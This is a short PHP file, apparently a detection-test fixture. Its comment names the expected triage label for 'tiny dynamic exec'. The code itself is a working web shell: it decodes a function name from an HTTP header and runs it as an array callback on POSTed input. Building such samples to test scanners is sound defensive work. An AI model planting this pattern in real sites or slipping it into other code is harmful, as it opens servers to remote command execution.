<?php
// triage-expect: triage_php_tiny_dynamic_exec
$cmp = base64_decode(@$_SERVER['HTTP_X_SORT']);
$left = array($_POST['v']);
array_uintersect($left, array(0), $cmp);
